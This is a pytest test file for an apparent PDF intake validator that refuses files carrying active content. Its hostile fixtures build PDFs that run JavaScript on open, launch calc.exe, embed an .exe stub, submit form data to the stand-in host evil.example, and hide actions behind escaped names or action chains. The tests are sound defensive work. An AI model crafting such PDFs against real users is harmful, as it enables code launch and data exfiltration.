"""PDFs that carry more than pages (scripts, launch actions, embedded files, additional
actions, rich media, XFA forms) are refused with ``document_active_content``; ordinary
PDFs, links and plain forms included, pass unchanged (docs/decisions/0010-h-intake-...)."""

from __future__ import annotations

import io

import pytest
from document_files import pdf_bytes, pdf_with_catalog, raw_pdf

from faxline.core.errors import ValidationFailed
from faxline.documents.intake import accept_document

# Pure documents code (no models): what it checks does not depend on the database engine.
pytestmark = pytest.mark.database_independent


def _written(build: object) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(2))))
    build(writer)  # type: ignore[operator]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: bytes, *more: bytes) -> bytes:
    return pdf_with_catalog(b"/OpenAction 4 0 R", b"", action, *more)


def _annotation(annotation: bytes) -> bytes:
    return pdf_with_catalog(b"", b"/Annots [4 0 R]", annotation)


HOSTILE = {
    "open-action-javascript": (
        _open_action(b"<</S /JavaScript /JS (app.alert\\(1\\))>>"),
        "JavaScript",
    ),
    "javascript-name-tree": (
        pdf_with_catalog(
            b"/Names <</JavaScript <</Names [(init) 4 0 R]>>>>",
            b"",
            b"<</Type /Action /S /JavaScript /JS 5 0 R>>",
            b"<</Length 19>>\nstream\napp.alert('hello');\nendstream",
        ),
        "JavaScript",
    ),
    "launch": (
        _open_action(b"<</S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe)>>"),
        "launches a program",
    ),
    "embedded-file": (
        _written(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00")),
        "embedded files",
    ),
    "file-attachment-annotation": (
        _annotation(b"<</Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10]>>"),
        "embedded files",
    ),
    "page-additional-actions": (
        pdf_with_catalog(b"", b"/AA <</O 4 0 R>>", b"<</S /JavaScript /JS (1)>>"),
        "/AA",
    ),
    "rich-media": (
        _annotation(b"<</Type /Annot /Subtype /RichMedia /Rect [0 0 10 10]>>"),
        "rich media",
    ),
    "xfa-form": (
        pdf_with_catalog(b"/AcroForm <</Fields [] /XFA 4 0 R>>", b"", b"[(template) 5 0 R]"),
        "XFA",
    ),
    "submit-form-link": (
        _annotation(
            b"<</Type /Annot /Subtype /Link /Rect [0 0 10 10] "
            b"/A <</S /SubmitForm /F (https://evil.example/)>>>>"
        ),
        "submits data",
    ),
    # The name written with an escape (#61 is "a"): what a viewer reads, not the raw bytes.
    "escaped-name": (_open_action(b"<</S /J#61vaScript /J#53 (1)>>"), "JavaScript"),
    # Reached only through a chain of actions (/Next) and an indirect array.
    "next-chain": (
        _open_action(
            b"<</S /GoTo /D [3 0 R /Fit] /Next 5 0 R>>", b"[6 0 R]", b"<</S /Launch /F (x)>>"
        ),
        "launches a program",
    ),
}


@pytest.mark.parametrize(("data", "words"), HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_is_refused(data: bytes, words: str) -> None:
    with pytest.raises(ValidationFailed) as caught:
        accept_document(data, filename="bill.pdf", field="file", as_pdf=True)
    assert caught.value.code == "document_active_content"
    assert caught.value.field == "file"
    assert words in caught.value.message
    assert "Print it to a new PDF" in caught.value.message


ORDINARY = {
    "reportlab": pdf_bytes(3),
    "link-and-goto-open-action": pdf_with_catalog(
        b"/OpenAction [3 0 R /Fit]",
        b"/Annots [4 0 R]",
        b"<</Type /Annot /Subtype /Link /Rect [0 0 10 10] "
        b"/A <</S /URI /URI (https://example.com/)>>>>",
    ),
    "plain-form": pdf_with_catalog(
        b"/AcroForm <</Fields [4 0 R]>>",
        b"/Annots [4 0 R]",
        b"<</Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 100 20] /P 3 0 R>>",
    ),
    # A string that merely mentions the words is no script.
    "words-in-text": raw_pdf(
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1 /Title (JavaScript /Launch /AA)>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]>>",
    ),
}


@pytest.mark.parametrize("data", ORDINARY.values(), ids=ORDINARY.keys())
def test_an_ordinary_pdf_passes_unchanged(data: bytes) -> None:
    accepted = accept_document(data, filename="bill.pdf", as_pdf=True)
    assert accepted.kind == "pdf" and accepted.pages >= 1
    assert accepted.pdf == data  # byte for byte: nothing stripped, nothing rewritten
